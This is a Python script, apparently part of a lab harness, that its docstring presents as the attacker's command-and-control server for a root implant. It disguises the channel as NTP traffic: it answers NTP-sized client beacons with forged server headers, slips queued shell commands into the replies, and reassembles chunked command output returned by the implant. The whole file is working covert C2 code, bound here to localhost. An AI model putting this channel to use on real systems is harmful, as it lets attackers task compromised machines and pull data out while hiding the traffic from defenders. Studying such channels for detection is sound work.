#!/usr/bin/env python3
"""The attacker's side of the root implant's UDP channel (runs as labremote).

The implant sends NTP-sized client packets (48 bytes, mode 3) to
127.0.0.1:PORT every ~2 s. A reply is a 48-byte NTP server header, followed
by "T<id>\\n<command>" when a task is queued (one file <id>.cmd in --tasks).
Answers come back as "R" + id (4) + index (2) + count (2) + data after the
header; when all chunks of a task are in, they are written to
--tasks/<id>.out (the driver waits for that file). Everything is logged to
--log (times, peer, beacons counted, tasks sent, answer sizes).

  ntp-c2.py --port 4123 --tasks DIR --log FILE [--lifetime SECONDS]
"""
import argparse, os, socket, struct, time

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=4123)
    ap.add_argument("--tasks", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--lifetime", type=float, default=900)
    a = ap.parse_args()
    os.makedirs(a.tasks, exist_ok=True)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", a.port))
    s.settimeout(1.0)
    log = open(a.log, "a", buffering=1)
    def say(msg):
        log.write("%s %s\n" % (time.strftime("%H:%M:%S", time.gmtime()), msg))
    say("listening on udp 127.0.0.1:%d" % a.port)
    sent, parts, beacons, t_end = set(), {}, 0, time.time() + a.lifetime
    while time.time() < t_end:
        try:
            data, peer = s.recvfrom(65535)
        except socket.timeout:
            continue
        if len(data) < 48:
            continue
        body = data[48:]
        if body[:1] == b"R" and len(body) >= 9:
            tid, idx, cnt = struct.unpack(">IHH", body[1:9])
            got = parts.setdefault(tid, {})
            got[idx] = body[9:]
            if len(got) == cnt:
                out = b"".join(got[i] for i in range(cnt))
                path = os.path.join(a.tasks, "%d.out" % tid)
                with open(path + ".tmp", "wb") as fh:
                    fh.write(out)
                os.rename(path + ".tmp", path)
                say("task %d answered: %d bytes in %d packets" % (tid, len(out), cnt))
                del parts[tid]
            continue
        beacons += 1
        if beacons == 1:
            say("first beacon from %s:%d (ref id %r)" % (peer[0], peer[1], data[12:16]))
        reply = bytearray(48)
        reply[0] = 0x24   # LI 0, version 4, mode 4 (server)
        reply[1] = 2      # stratum
        reply[24:32] = data[40:48]   # originate = the client's transmit time
        now = int(time.time()) + 2208988800
        reply[32:36] = reply[40:44] = struct.pack(">I", now & 0xffffffff)
        todo = sorted(int(f[:-4]) for f in os.listdir(a.tasks) if f.endswith(".cmd") and int(f[:-4]) not in sent)
        if todo:
            tid = todo[0]
            cmd = open(os.path.join(a.tasks, "%d.cmd" % tid), "rb").read().rstrip(b"\n")
            reply += b"T%d\n" % tid + cmd
            sent.add(tid)
            say("task %d sent (%d bytes): %s" % (tid, len(cmd), cmd[:160].decode("utf-8", "replace")))
        try:
            s.sendto(bytes(reply), peer)
        except OSError as e:
            say("reply to %s:%d failed: %s" % (peer[0], peer[1], e))
    say("%d beacons; exiting" % beacons)

if __name__ == "__main__":
    main()
